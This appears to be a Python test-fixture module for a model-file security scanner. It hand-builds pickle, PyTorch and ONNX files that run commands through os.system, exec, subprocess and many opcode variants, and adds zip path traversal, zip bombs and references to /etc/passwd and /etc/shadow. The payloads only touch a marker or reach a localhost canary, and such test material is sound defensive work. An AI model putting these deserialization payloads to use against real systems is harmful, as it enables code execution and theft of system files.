"""Model files that do harm when they are really opened: touch a marker, or call home to a canary.

`payloads` of tests/pickled_malice.py are among them. A file that only names what it would run is
enough here; that the programs really run is shown by a control.
"""

import io
import json
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

from pickled_malice import archive, payloads

Write = Callable[[Path], None]


def programs(marker: Path, port: int) -> Mapping[str, bytes]:
    """Pickle programs by name, without header and end, that a real unpickler would run."""
    code = f"open({str(marker)!r}, 'w').close()"
    touch = f"touch {marker}"
    script = marker.with_suffix(".py")
    script.write_text(code)
    return {
        **payloads(marker),
        "subprocess.check_call": call("subprocess", "check_call", ["touch", str(marker)]),
        "runpy.run_path": call("runpy", "run_path", str(script)),
        "timeit.timeit": call("timeit", "timeit", code, "pass", named("time", "perf_counter"), 1),
        "cProfile.run": call("cProfile", "run", code),
        "numpy's own runstring": call("numpy.testing._private.utils", "runstring", code, {}),
        "fastcore.basics.exec_new": call("fastcore.basics", "exec_new", code),
        "shutil.copyfile": call("shutil", "copyfile", str(script), str(marker)),
        "io.open": call("io", "open", str(marker), "w"),
        "sqlite3.connect": call("sqlite3", "connect", str(marker)),
        "zipfile.ZipFile": call("zipfile", "ZipFile", str(marker), "w"),
        "logging.FileHandler": call("logging", "FileHandler", str(marker)),
        "os.mkdir": call("os", "mkdir", str(marker)),
        "pickle.loads": call("pickle", "loads", pickle.dumps(None)[:-1] + b"0" + _system(touch)),
        "partial of exec": call("functools", "partial", named("builtins", "exec"), code) + b")R",
        "methodcaller": _method(touch),
        "marshalled code": _marshalled(code),
        "Path.touch by getattr": _touch(marker),
        "a socket": call("socket", "create_connection", ("127.0.0.1", port), 5),
        "urlopen": call("urllib.request", "urlopen", f"http://127.0.0.1:{port}/", None, 5),
        **{f"os.system by {opcode}": body for opcode, body in opcodes(touch).items()},
    }


def opcodes(command: str) -> Mapping[str, bytes]:
    """The same call in every way that pickle knows to make one."""
    text = command.encode()
    short = b"\x8c" + bytes([len(text)]) + text
    return {
        "GLOBAL and REDUCE": b"cposix\nsystem\n(" + short + b"tR",
        "STACK_GLOBAL": b"\x8c\x05posix\x8c\x06system\x93" + short + b"\x85R",
        "INST": b"(S'" + text + b"'\niposix\nsystem\n",
        "OBJ": b"(cposix\nsystem\nS'" + text + b"'\no",
        "a call that is dropped again": b"cposix\nsystem\n" + short + b"\x85R0N",
        "a memo": b"cposix\nsystem\nq\x00" + short + b"q\x010" + b"0h\x00h\x01\x85R",
        "a dictionary's key": b"}cposix\nsystem\n" + short + b"\x85RNs",
        "a long frame": b"\x95" + struct.pack("<Q", len(_stacked(short))) + _stacked(short),
    }


def call(module: str, name: str, *arguments: Any) -> bytes:
    """Calls a global."""
    inner = b"".join(map(_value, arguments))
    return _value(Global(module, name)) + b"(" + inner + b"tR"


class Global:
    """A reference to a global in hand-made programs."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


def named(module: str, name: str) -> Global:
    """A global as an argument."""
    return Global(module, name)


def _value(value: Any) -> bytes:
    if isinstance(value, Global):
        return f"c{value.module}\n{value.name}\n".encode()
    return pickle.dumps(value, 2)[2:-1]


def _system(command: str) -> bytes:
    return call("posix", "system", command) + b"."


def _stacked(short: bytes) -> bytes:
    return b"\x8c\x05posix\x8c\x06system\x93" + short + b"\x85R"


def _method(command: str) -> bytes:
    caller = call("operator", "methodcaller", "system", command)
    return caller + b"(" + call("importlib", "import_module", "os") + b"tR"


def _marshalled(code: str) -> bytes:
    body = marshal.dumps(compile(code, "model", "exec"))
    inner = call("marshal", "loads", body)
    return b"cbuiltins\nexec\n(" + inner + b"tR"


def _touch(marker: Path) -> bytes:
    path = call("pathlib", "PosixPath", str(marker))
    return b"cbuiltins\ngetattr\n(" + path + _value("touch") + b"tR)R"


def archives(folder: Path, marker: Path) -> Iterator[Path]:
    """Files around a harmful program, each with a trick of its own."""
    body = _system(f"touch {marker}")[:-1]
    raw = b"\x80\x02" + body + b"."
    tricks: dict[str, Write] = {
        "bare.pkl": lambda path: _bytes(path, raw),
        "bare.pt": lambda path: _bytes(path, raw),
        "protocol0.pkl": lambda path: _bytes(path, body + b"."),
        "gzip.pkl": lambda path: _bytes(path, b"\x1f\x8b" + raw),
        "legacy-and-zip.pkl": lambda path: _bytes(
            path, raw + archive(folder / "inner.zip", b"N").read_bytes()
        ),
        "two-pickles.pkl": lambda path: archive(path, b"N", {"more.pkl": raw}),
        "capitals.pkl": lambda path: archive(path, b"N", {"DATA.PKL": raw}),
        "outside.pkl": lambda path: archive(path, b"N", {"../../../outside": raw}),
        "absolute.pkl": lambda path: archive(path, b"N", {"/etc/cron.d/outside": raw}),
        "backslash.pkl": lambda path: archive(path, b"N", {"data\\..\\outside": raw}),
        "twice.pkl": _twice(raw),
        "compressed.pkl": _compressed(bytes(8 << 20)),
        "overlapping.pkl": _overlapping,
        "torchscript.pkl": lambda path: archive(
            path, body, {"constants.pkl": raw, "code/m.py": b""}
        ),
        "cut-short.pkl": lambda path: _bytes(
            path, archive(folder / "whole.zip", body, {"data/0": bytes(4000)}).read_bytes()[:3000]
        ),
        "big-endian.pkl": _big_endian(body),
        "after-the-end.pkl": lambda path: archive(path, b"N." + body),
        "weights.pt": lambda path: archive(path, body),
        "pickle-as.onnx": lambda path: _bytes(path, raw),
        "pickle-as.safetensors": lambda path: _bytes(path, raw),
        "pickle-as.pt2": lambda path: _bytes(path, raw),
        "endless-header.safetensors": lambda path: _bytes(path, struct.pack("<Q", 1 << 62) + b"{}"),
    }
    for name, write in tricks.items():
        path = folder / name
        write(path)
        yield path


def exported(folder: Path, marker: Path) -> Iterator[Path]:
    """The three known ways in which `torch.export.load` runs code, a library, and more."""
    code = f"__import__('os').system('touch {marker}')"
    raw = b"\x80\x02" + _system(f"touch {marker}")
    weight = {"path_name": "weight_0", "use_pickle": True}
    tricks: dict[str, Mapping[str, bytes]] = {
        "examples.pt2": {"data/sample_inputs/model.pt": _zipped({"archive/data.pkl": raw})},
        "pickled-weights.pt2": {
            "data/weights/model_weights_config.json": _json({"config": {"w": weight}}),
            "data/weights/weight_0": raw,
        },
        "expression.pt2": {"models/model.json": _json({"range": {"expr_str": code}})},
        "target.pt2": {"models/model.json": _json({"nodes": [{"target": "os.system"}]})},
        "library.pt2": {"data/aotinductor/model/model.so": b"\x7fELF"},
        "kernel.pt2": {"data/aotinductor/model/kernel.cpp": b"int main() {}"},
        "outside.pt2": {"data/weights/../../../outside": b"1234"},
        "elsewhere.pt2": {
            "data/weights/model_weights_config.json": _json(
                {"config": {"w": {**weight, "use_pickle": False, "path_name": "../../etc/passwd"}}}
            )
        },
    }
    for name, members in tricks.items():
        path = folder / name
        inner = {f"model/{member}": data for member, data in members.items()}
        path.write_bytes(_zipped({"model/archive_format": b"pt2", **inner}))
        yield path
    bomb = folder / "bomb.pt2"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("model/archive_format", "pt2")
        target.writestr("model/models/model.json", bytes(8 << 20))
    yield bomb


def graphs(folder: Path) -> Iterator[Path]:
    """ONNX that reaches for other files, or for code that is not ONNX's own."""
    import onnx

    make, kinds = onnx.helper, onnx.TensorProto

    def graph(*nodes: Any, weights: Any = None, domains: tuple[str, ...] = ()) -> Any:
        taken = make.make_tensor_value_info("x", kinds.FLOAT, ["n", 3, 4, 4])
        given = make.make_tensor_value_info("y", kinds.FLOAT, ["n", 3])
        whole = make.make_graph(list(nodes), "g", [taken], [given], weights or [])
        opsets = [make.make_opsetid("", 17), *(make.make_opsetid(d, 1) for d in domains)]
        return make.make_model(whole, opset_imports=opsets, ir_version=9)

    def outside(place: str) -> Any:
        tensor = onnx.TensorProto(name="w", data_type=kinds.FLOAT, dims=[3])
        tensor.data_location = kinds.EXTERNAL
        tensor.external_data.add(key="location", value=place)
        return tensor

    sums = make.make_node("ReduceSum", ["x"], ["y"], keepdims=0)
    branch = make.make_graph(
        [make.make_node("Constant", [], ["b"], value=outside("/etc/passwd"))], "b", [],
        [make.make_tensor_value_info("b", kinds.FLOAT, [3])],
    )  # fmt: skip
    function = make.make_function(
        "mine", "F", ["a"], ["b"], [make.make_node("Identity", ["a"], ["b"])],
        [make.make_opsetid("", 17)],
    )  # fmt: skip
    with_function = graph(make.make_node("F", ["x"], ["y"], domain="mine"), domains=("mine",))
    with_function.functions.append(function)
    made = {
        "passwd": graph(sums, weights=[outside("/etc/passwd")]),
        "parent": graph(sums, weights=[outside("../../../../etc/passwd")]),
        "constant": graph(make.make_node("Constant", [], ["y"], value=outside("/etc/shadow"))),
        "branch": graph(make.make_node("If", ["x"], ["y"], then_branch=branch, else_branch=branch)),
        "domain": graph(make.make_node("Run", ["x"], ["y"], domain="evil"), domains=("evil",)),
        "python": graph(
            make.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib"),
            domains=("ai.onnx.contrib",),
        ),
        "function": with_function,
    }
    for name, model in made.items():
        path = folder / f"{name}.onnx"
        path.write_bytes(model.SerializeToString())
        yield path
    (folder / "cut-short.onnx").write_bytes(made["domain"].SerializeToString()[:-9])
    yield folder / "cut-short.onnx"


def _bytes(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def _zipped(members: Mapping[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as file:
        for name, data in members.items():
            file.writestr(name, data)
    return target.getvalue()


def _twice(raw: bytes) -> Write:
    def write(path: Path) -> None:
        import warnings

        with warnings.catch_warnings(), zipfile.ZipFile(archive(path, b"N"), "a") as target:
            warnings.simplefilter("ignore")  # the same name again, which is the trick
            target.writestr("archive/data.pkl", raw)

    return write


def _compressed(data: bytes) -> Write:
    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            target.writestr("archive/data.pkl", b"\x80\x02N.")
            target.writestr("archive/data/0", data)

    return write


def _overlapping(path: Path) -> None:
    """Many entries in the table of contents that all name the same bytes."""
    with zipfile.ZipFile(archive(path, b"N", {"data/0": bytes(100_000)}), "a") as target:
        (first,) = (info for info in target.infolist() if info.filename.endswith("data/0"))
        for i in range(1, 200):
            again = zipfile.ZipInfo(f"archive/data/{i}")
            again.file_size, again.compress_size = first.file_size, first.compress_size
            again.header_offset, again.CRC = first.header_offset, first.CRC
            target.filelist.append(again)
            target.NameToInfo[again.filename] = again
        target._didModify = True  # so that the table is written again


def _big_endian(body: bytes) -> Write:
    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
            target.writestr("archive/data.pkl", b"\x80\x02" + body + b".")
            target.writestr("archive/byteorder", b"big")

    return write
